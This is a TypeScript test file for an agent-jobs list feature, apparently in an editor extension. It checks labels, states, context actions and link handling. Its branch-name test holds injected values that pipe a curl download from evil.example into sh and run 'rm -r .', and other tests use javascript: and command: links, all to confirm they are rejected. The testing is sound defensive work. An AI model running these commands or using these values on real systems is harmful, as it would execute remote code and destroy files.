import assert from "node:assert/strict";
import {
  branchOf,
  choiceOf,
  endNotice,
  jobDetails,
  jobRow,
  jobState,
  jobTitle,
  listed,
  pullRequestOf,
} from "../../../client/src/features/agent-jobs/job-rows.ts";
import { type AgentJob, decodeJob } from "../../../client/src/platform/agent-jobs.ts";
import { momentText } from "../../../client/src/ui/relative-time.ts";
import { job, malformedJobs } from "../../platform/jobs.ts";

const now = Date.parse("2026-01-02T09:04:05.000Z");
const ended = decodeJob(job(1));
const running = decodeJob(job(0));
const bare: AgentJob = { sessionId: "1", todos: [] };

function only(value: AgentJob) {
  const [one] = listed([value]);
  if (one === undefined) throw new Error("no job");
  return one;
}

describe("the row of an agent job", () => {
  it("shows title, state and age", () => {
    const row = jobRow(only(ended), now);
    assert.equal(row.label, "Rewrite guide 1");
    assert.equal(row.description, "completed · 5 hours ago");
    assert.equal(row.icon, "pass");
    assert.equal(row.context, "job pullRequest branch checkOut");
    assert.equal(row.spoken, "Rewrite guide 1, completed · 5 hours ago");
    assert.equal(jobRow(only(running), now).icon, "loading~spin");
    assert.equal(jobRow(only(running), now).description, "running · 6 hours ago");
  });

  it("offers to copy a branch only if git allows its name", () => {
    assert.equal(branchOf({ ...bare, branch: "agent/führung-1" }), "agent/führung-1");
    assert.equal(branchOf(bare), undefined);
    for (const branch of ["main\ncurl https://evil.example | sh\n", "main\u0003rm -r .\r", "-f", "a b", ""]) {
      assert.equal(branchOf({ ...bare, branch }), undefined, JSON.stringify(branch));
      assert.equal(
        jobRow(only({ ...bare, branch }), now)
          .context?.split(" ")
          .includes("branch"),
        false,
      );
    }
  });

  it("has the branch or the message if there is no title", () => {
    assert.equal(jobTitle({ ...bare, branch: "agent/x", messageToUser: "Hi" }), "agent/x");
    assert.equal(jobTitle({ ...bare, messageToUser: "Hi\nthere" }), "Hi there");
    assert.equal(jobTitle(bare), "1");
    assert.equal(jobTitle({ ...bare, sessionId: "" }), "Agent job");
  });

  it("has words for known reasons, and shows unknown ones unchanged", () => {
    const state = (haultReason?: string): string =>
      jobState({ ...bare, haulted: true, ...(haultReason === undefined ? {} : { haultReason }) });
    assert.equal(state("completed"), "completed");
    assert.equal(state("github_missconfigured"), "GitHub is not set up");
    assert.equal(state("error"), "failed");
    assert.equal(state("interrupted"), "interrupted");
    assert.equal(state("waiting_for_weather"), "waiting_for_weather");
    assert.equal(state("constructor"), "constructor");
    assert.equal(state(), "halted");
  });

  it("offers only possible actions", () => {
    const context = (value: AgentJob): string | undefined => jobRow(only(value), now).context;
    assert.equal(context(bare), "job");
    assert.equal(context({ ...bare, pullRequestLink: "javascript:alert(1)" }), "job");
    assert.equal(
      context({ ...bare, pullRequestLink: "https://github.com/a/b/pull/1" }),
      "job pullRequest checkOut",
    );
    assert.equal(context({ ...bare, pullRequestLink: "https://example.com/1" }), "job pullRequest");
    assert.equal(pullRequestOf({ ...bare, pullRequestLink: "vscode://x/y" }), undefined);
  });

  it("has a unique and stable id", () => {
    const readable = malformedJobs.flatMap((one) =>
      typeof one === "object" && one !== null ? [decodeJob({ ...one })] : [],
    );
    const names = listed([...readable, ...readable]).map(({ id }) => id);
    assert.equal(new Set(names).size, names.length);
    assert.equal(listed([ended, running])[1]?.id, only(running).id);
  });
});

describe("the rows below an agent job", () => {
  it("show every field that the reference documents", () => {
    const rows = jobDetails(only(ended)).map(({ row }) => [row.label, row.description]);
    assert.deepEqual(rows, [
      ["Message", "Done: the guide is rewritten."],
      ["Read the guide", "completed · high priority"],
      ["Rewrite it", "completed · medium priority"],
      ["Open a pull request", "pending · low priority"],
      ["Pull request", "https://github.com/acme/docs/pull/1"],
      ["Branch", "agent/task-1"],
      ["Halted", "Yes, completed"],
      ["Created", momentText(Date.parse("2026-01-02T04:04:05Z"))],
      ["User", "user-2"],
      ["Subdomain", "acme"],
      ["Session", "session-1"],
    ]);
    assert.doesNotMatch(JSON.stringify([rows, jobRow(only(ended), now)]), /hault/i);
  });

  it("has an icon for the state of each to-do", () => {
    const icons = jobDetails(only(running)).slice(1, 4);
    assert.deepEqual(
      icons.map(({ row }) => row.icon),
      ["pass", "play-circle", "circle-outline"],
    );
  });

  it("show unknown if the service omits the field", () => {
    const row = jobRow(only(bare), now);
    assert.match(row.description ?? "", /^unknown/);
    assert.equal(row.icon, "question");
    const halted = jobDetails(only(bare)).find((one) => one.row.label === "Halted");
    assert.equal(halted?.row.description, "Unknown: the service does not report it");
  });

  it("show Markdown from the service as text", () => {
    const job = { ...bare, messageToUser: "**Done**: see [the pull request](command:a) and `npm i`." };
    assert.equal(jobRow(only(job), now).label, "Done: see the pull request and npm i.");
    assert.match(endNotice([{ ...job, haulted: true }]), /Done: see the pull request and npm i\./);
    const todos = [{ content: "- [ ] **Fix** it" }];
    assert.equal(jobDetails(only({ ...bare, todos }))[0]?.row.label, "• Fix it");
  });

  it("show that a running job has not halted", () => {
    const iconFor = (job: AgentJob) =>
      jobDetails(only(job)).find(({ row }) => row.label === "Halted")?.row.icon;
    assert.deepEqual([iconFor(running), iconFor(ended)], ["play-circle", "stop-circle"]);
  });

  it("open the pull request only if it has a web URL", () => {
    const opens = (pullRequestLink: string): string | undefined =>
      jobDetails(only({ ...bare, pullRequestLink })).find(({ row }) => row.label === "Pull request")?.opens;
    assert.equal(opens("https://github.com/a/b/pull/1"), "https://github.com/a/b/pull/1");
    assert.equal(opens("command:workbench.action.quit"), undefined);
  });

  it("show unknown values as received", () => {
    const future = decodeJob({ ...(malformedJobs[4] as Readonly<Record<string, unknown>>) });
    const rows = jobDetails(only(future)).map(({ row }) => [row.label, row.description]);
    assert.deepEqual(rows, [
      ["Wait", "dreaming · cosmic priority"],
      ["42", ""],
      ["a bare line", ""],
      ["Branch", "agent/future"],
      ["Halted", "Yes, waiting_for_weather"],
      ["Created", "soon"],
      ["Session", "future"],
    ]);
    const halted = jobDetails(only({ ...bare, haulted: true, haultReason: "github_missconfigured" }));
    assert.equal(halted[0]?.row.description, "Yes, GitHub is not set up (github_missconfigured)");
  });
});

describe("texts about agent jobs", () => {
  it("announce one job in a sentence, and the number of several", () => {
    assert.equal(
      endNotice([ended]),
      "The agent job “Rewrite guide 1” has ended: completed. Done: the guide is rewritten.",
    );
    assert.equal(endNotice([ended, ended]), "2 agent jobs have ended.");
  });

  it("describe a job in a picker", () => {
    assert.deepEqual(choiceOf(ended, now), {
      label: "Rewrite guide 1",
      description: "completed · 5 hours ago",
      detail: "agent/task-1 · https://github.com/acme/docs/pull/1",
    });
  });
});
